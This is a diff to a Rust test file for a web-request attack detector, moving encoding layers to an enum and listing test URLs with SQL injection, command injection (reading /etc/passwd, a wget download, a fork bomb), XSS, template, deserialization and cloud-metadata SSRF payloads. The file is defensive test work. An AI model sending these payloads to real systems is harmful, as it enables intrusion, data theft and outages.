@@ -6,7 +6,9 @@ fn suspect(event: &Event<'_>) -> bool {
     FIELDS.iter().any(|field| super::suspect(event, *field))
 }
 
-fn words(event: &Event<'_>, family: Family, layer: u8) -> Vec<&'static str> {
+const LAYERS: [Layer; 4] = [Layer::Raw, Layer::Once, Layer::Twice, Layer::Base64];
+
+fn words(event: &Event<'_>, family: Family, layer: Layer) -> Vec<&'static str> {
     let all = FIELDS.iter().flat_map(|field| super::words(event, *field));
     all.filter(|word| (word.family, word.layer) == (family, layer)).map(|word| word.name).collect()
 }
@@ -21,54 +23,54 @@ fn event(target: &'static str) -> Event<'static> {
 #[test]
 fn attacks_have_words_at_the_layer_where_they_become_readable() {
     for (target, family, layer, word) in [
-        ("/i?id=1'or'1'='1", Family::Sqli, 0, "condition"),
-        ("/i?id=1%27+or+1=1--", Family::Sqli, 1, "condition"),
-        ("/i?id=1%2527+or+1%253d1--", Family::Sqli, 2, "condition"),
-        ("/i/1%20and%201=2/x", Family::Sqli, 1, "condition"),
-        ("/i?id=-1+union+select+1,2", Family::Sqli, 1, "select"),
-        ("/i?id=1;drop+table+cards", Family::Sqli, 1, "statement"),
-        ("/i?id=1+order+by+9--", Family::Sqli, 1, "clause"),
-        ("/i?id='||version()||'", Family::Sqli, 0, "condition"),
-        ("/i?user=admin'--", Family::Sqli, 0, "comment"),
-        ("/i?id=1'", Family::Sqli, 0, "quote"),
-        ("/i?h=1;id", Family::Cmdi, 0, "chained"),
-        ("/i?h=1+%26%26+cat+/etc/passwd", Family::Cmdi, 1, "chained"),
-        ("/i?h=1+&&+wget+http://h/x", Family::Cmdi, 1, "chained"),
-        ("/i?h=$(id)", Family::Cmdi, 0, "substituted"),
-        ("/i?h=`uname+-a`", Family::Cmdi, 1, "substituted"),
-        ("/i?h=w'h'oami", Family::Cmdi, 0, "hidden"),
-        ("/i?h={cat,/etc/passwd}", Family::Cmdi, 0, "hidden"),
-        ("/i?h=;/???/??t", Family::Cmdi, 0, "hidden"),
-        ("/i?h=/bin/sh;", Family::Cmdi, 0, "shell"),
-        ("/i?h=ls+-la;", Family::Cmdi, 1, "called"),
-        ("/i?h=1;f(){+f|f&+};f", Family::Cmdi, 1, "shell"),
-        ("/i?q=<svg/onload=x>", Family::Xss, 0, "handler"),
-        ("/i?q=%22%20onfocus=alert(1)", Family::Xss, 1, "handler"),
-        ("/i?q=%253Ciframe%20src=x", Family::Xss, 2, "element"),
-        ("/i?q=java%09script:alert(1)", Family::Xss, 1, "address"),
-        ("/i?q=%27-alert(1)-%27", Family::Xss, 1, "script"),
-        ("/i?q=%3C?php+echo", Family::Code, 1, "tag"),
-        ("/i?q=file_get_contents(%27x%27)", Family::Code, 1, "call"),
-        ("/i?q={{7*7}}", Family::Code, 0, "template"),
-        ("/i?q=$_GET[x]", Family::Code, 0, "variable"),
-        ("/i?q=O:8:%22stdClass%22:0:{}", Family::Code, 1, "object"),
-        ("/i?q=*)(uid=*", Family::Code, 0, "filter"),
-        ("/i?q=x%0d%0aSet-Cookie:+a", Family::Code, 1, "header"),
-        ("/i?q=http://169.254.169.254/", Family::Url, 0, "internal"),
-        ("/i?q=http%3A%2F%2F2852039166%2F", Family::Url, 1, "disguised"),
-        ("/i?q=gopher://h:25/", Family::Url, 0, "scheme"),
-        ("/i?q=http://203.0.113.9/a", Family::Url, 0, "bare"),
-        ("/i?q=/%5Cbad.example", Family::Url, 1, "disguised"),
-        ("/i?q=http://bad.example/x?", Family::Url, 0, "include"),
-        ("/i?q=ssh2.shell://u:p@h.example:22/xterm", Family::Url, 0, "scheme"),
-        ("/i?q=a%26more%20x%20%7C%20id", Family::Cmdi, 1, "chained"),
-        ("/i?q=http://h.example/x.txt?", Family::Url, 0, "include"),
+        ("/i?id=1'or'1'='1", Family::Sqli, Layer::Raw, "condition"),
+        ("/i?id=1%27+or+1=1--", Family::Sqli, Layer::Once, "condition"),
+        ("/i?id=1%2527+or+1%253d1--", Family::Sqli, Layer::Twice, "condition"),
+        ("/i/1%20and%201=2/x", Family::Sqli, Layer::Once, "condition"),
+        ("/i?id=-1+union+select+1,2", Family::Sqli, Layer::Once, "select"),
+        ("/i?id=1;drop+table+cards", Family::Sqli, Layer::Once, "statement"),
+        ("/i?id=1+order+by+9--", Family::Sqli, Layer::Once, "clause"),
+        ("/i?id='||version()||'", Family::Sqli, Layer::Raw, "condition"),
+        ("/i?user=admin'--", Family::Sqli, Layer::Raw, "comment"),
+        ("/i?id=1'", Family::Sqli, Layer::Raw, "quote"),
+        ("/i?h=1;id", Family::Cmdi, Layer::Raw, "chained"),
+        ("/i?h=1+%26%26+cat+/etc/passwd", Family::Cmdi, Layer::Once, "chained"),
+        ("/i?h=1+&&+wget+http://h/x", Family::Cmdi, Layer::Once, "chained"),
+        ("/i?h=$(id)", Family::Cmdi, Layer::Raw, "substituted"),
+        ("/i?h=`uname+-a`", Family::Cmdi, Layer::Once, "substituted"),
+        ("/i?h=w'h'oami", Family::Cmdi, Layer::Raw, "hidden"),
+        ("/i?h={cat,/etc/passwd}", Family::Cmdi, Layer::Raw, "hidden"),
+        ("/i?h=;/???/??t", Family::Cmdi, Layer::Raw, "hidden"),
+        ("/i?h=/bin/sh;", Family::Cmdi, Layer::Raw, "shell"),
+        ("/i?h=ls+-la;", Family::Cmdi, Layer::Once, "called"),
+        ("/i?h=1;f(){+f|f&+};f", Family::Cmdi, Layer::Once, "shell"),
+        ("/i?q=<svg/onload=x>", Family::Xss, Layer::Raw, "handler"),
+        ("/i?q=%22%20onfocus=alert(1)", Family::Xss, Layer::Once, "handler"),
+        ("/i?q=%253Ciframe%20src=x", Family::Xss, Layer::Twice, "element"),
+        ("/i?q=java%09script:alert(1)", Family::Xss, Layer::Once, "address"),
+        ("/i?q=%27-alert(1)-%27", Family::Xss, Layer::Once, "script"),
+        ("/i?q=%3C?php+echo", Family::Code, Layer::Once, "tag"),
+        ("/i?q=file_get_contents(%27x%27)", Family::Code, Layer::Once, "call"),
+        ("/i?q={{7*7}}", Family::Code, Layer::Raw, "template"),
+        ("/i?q=$_GET[x]", Family::Code, Layer::Raw, "variable"),
+        ("/i?q=O:8:%22stdClass%22:0:{}", Family::Code, Layer::Once, "object"),
+        ("/i?q=*)(uid=*", Family::Code, Layer::Raw, "filter"),
+        ("/i?q=x%0d%0aSet-Cookie:+a", Family::Code, Layer::Once, "header"),
+        ("/i?q=http://169.254.169.254/", Family::Url, Layer::Raw, "internal"),
+        ("/i?q=http%3A%2F%2F2852039166%2F", Family::Url, Layer::Once, "disguised"),
+        ("/i?q=gopher://h:25/", Family::Url, Layer::Raw, "scheme"),
+        ("/i?q=http://203.0.113.9/a", Family::Url, Layer::Raw, "bare"),
+        ("/i?q=/%5Cbad.example", Family::Url, Layer::Once, "disguised"),
+        ("/i?q=http://bad.example/x?", Family::Url, Layer::Raw, "include"),
+        ("/i?q=ssh2.shell://u:p@h.example:22/xterm", Family::Url, Layer::Raw, "scheme"),
+        ("/i?q=a%26more%20x%20%7C%20id", Family::Cmdi, Layer::Once, "chained"),
+        ("/i?q=http://h.example/x.txt?", Family::Url, Layer::Raw, "include"),
     ] {
         let event = event(target);
         assert!(suspect(&event), "{target}");
         assert_eq!(words(&event, family, layer), [word], "{target}");
-        for below in 0..layer {
-            assert!(words(&event, family, below).is_empty(), "{target}: {below}");
+        for below in LAYERS.into_iter().filter(|below| *below < layer) {
+            assert!(words(&event, family, below).is_empty(), "{target}: {below:?}");
         }
     }
 }
@@ -150,7 +152,7 @@ fn customers_have_none() {
     ] {
         let event = event(target);
         for family in Family::ALL {
-            for layer in 0..=2 {
+            for layer in LAYERS {
                 assert!(words(&event, *family, layer).is_empty(), "{target}: {family:?}");
             }
         }
